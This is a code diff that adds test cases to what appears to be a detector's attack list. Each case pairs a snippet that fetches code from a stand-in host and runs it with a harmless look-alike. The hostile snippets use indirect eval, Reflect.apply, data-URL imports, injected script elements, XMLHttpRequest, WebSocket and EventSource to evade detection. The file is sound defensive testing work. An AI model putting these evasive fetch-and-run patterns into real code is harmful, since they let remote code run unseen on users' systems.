@@ -1019,11 +1019,96 @@ const hookedAttacks: Attack[] = [
   ),
 ]
 
+/** Ways around a plain call, and around a plain request, in scripts. */
+const scriptEvasions: Attack[] = [
+  script(
+    'calls eval as a method of itself',
+    'const t = await (await fetch("https://example.test/a")).text(); eval.call(null, t)',
+    'const t = await (await fetch("https://example.test/a")).text(); console.log.call(console, t)',
+  ),
+  script(
+    'applies eval to a list',
+    'const t = await (await fetch("https://example.test/a")).text(); eval.apply(null, [t])',
+    'const t = await (await fetch("https://example.test/a")).text(); Math.max.apply(null, JSON.parse(t))',
+  ),
+  script(
+    'has another function apply eval',
+    'const t = await (await fetch("https://example.test/a")).text(); Reflect.apply(eval, null, [t])',
+    'const t = await (await fetch("https://example.test/a")).text(); Reflect.apply(JSON.parse, null, [t])',
+  ),
+  script(
+    'makes a function with what it fetched already bound to it',
+    'const t = await (await fetch("https://example.test/a")).text(); const run = eval.bind(null, t); run()',
+    'const t = await (await fetch("https://example.test/a")).text(); const show = console.log.bind(console, t); show()',
+  ),
+  script(
+    'borrows the way in which functions are called',
+    'const t = await (await fetch("https://example.test/a")).text(); Function.prototype.call.call(eval, null, t)',
+    'const t = await (await fetch("https://example.test/a")).text(); Function.prototype.call.call(JSON.parse, null, t)',
+  ),
+  script(
+    'imports a script that it fetched as an address',
+    'const t = await (await fetch("https://example.test/a")).text(); import("data:text/javascript," + encodeURIComponent(t))',
+    'const t = await (await fetch("https://example.test/a")).text(); image.src = "data:image/svg+xml," + encodeURIComponent(t)',
+  ),
+  script(
+    'imports from where a server says',
+    'import((await (await fetch("https://example.test/a")).json()).address)',
+    'const { address } = await (await fetch("./addresses.json")).json(); import(address)',
+  ),
+  script(
+    'fills a script element with what it fetched',
+    'const s = document.createElement("script"); s.textContent = await (await fetch("https://example.test/a")).text(); document.head.append(s)',
+    'const s = document.createElement("style"); s.textContent = await (await fetch("https://example.test/a")).text(); document.head.append(s)',
+  ),
+  script(
+    'puts what it fetched into a script element as a node',
+    'const s = document.createElement("script"); s.appendChild(document.createTextNode(await (await fetch("https://example.test/a")).text())); document.head.append(s)',
+    'const s = document.createElement("pre"); s.appendChild(document.createTextNode(await (await fetch("https://example.test/a")).text())); document.body.append(s)',
+  ),
+  script(
+    'gives a script element the address that a server says',
+    'const s = document.createElement("script"); s.src = (await (await fetch("https://example.test/a")).json()).address; document.head.append(s)',
+    'const s = document.createElement("img"); s.src = (await (await fetch("https://example.test/a")).json()).address; document.body.append(s)',
+  ),
+  script(
+    'sets the address of a script element by its name',
+    'const s = document.createElement("script"); s.setAttribute("src", "https://example.test/x.js"); document.head.append(s)',
+    'const s = document.createElement("script"); s.setAttribute("src", "./extensions/x/lib.js"); document.head.append(s)',
+  ),
+  script(
+    'assigns all of a script element at once',
+    'const s = Object.assign(document.createElement("script"), { src: "https://example.test/x.js" }); document.head.append(s)',
+    'const s = Object.assign(document.createElement("a"), { href: "https://example.test/x.html" }); document.body.append(s)',
+  ),
+  script(
+    'runs what an older kind of request answers',
+    'const x = new XMLHttpRequest(); x.open("GET", "https://example.test/a"); x.onload = () => eval(x.responseText); x.send()',
+    'const x = new XMLHttpRequest(); x.open("GET", "https://example.test/a"); x.onload = () => JSON.parse(x.responseText); x.send()',
+  ),
+  script(
+    'runs what an older kind of request answers, by the object of its handler',
+    'const x = new XMLHttpRequest(); x.open("GET", "https://example.test/a"); x.onreadystatechange = function () { if (this.readyState === 4) eval(this.responseText) }; x.send()',
+    'const x = new XMLHttpRequest(); x.open("GET", "/api/a"); x.onreadystatechange = function () { if (this.readyState === 4) eval(this.responseText) }; x.send()',
+  ),
+  script(
+    'runs what a socket brings',
+    'const w = new WebSocket("wss://example.test"); w.onmessage = (e) => { new Function(JSON.parse(e.data).code)() }',
+    'const w = new WebSocket("wss://example.test"); w.onmessage = (e) => { console.log(JSON.parse(e.data).code) }',
+  ),
+  script(
+    'listens for what a stream of events brings, and runs it',
+    'const s = new EventSource("https://example.test"); s.addEventListener("message", ({ data }) => eval(data))',
+    'const s = new EventSource("https://example.test"); s.addEventListener("message", ({ data }) => JSON.parse(data))',
+  ),
+]
+
 export const attacks: readonly Attack[] = [
   ...codeAttacks,
   ...processAttacks,
   ...reachAttacks,
   ...scriptAttacks,
+  ...scriptEvasions,
   ...fileAttacks,
   ...laterAttacks,
   ...nestedAttacks,
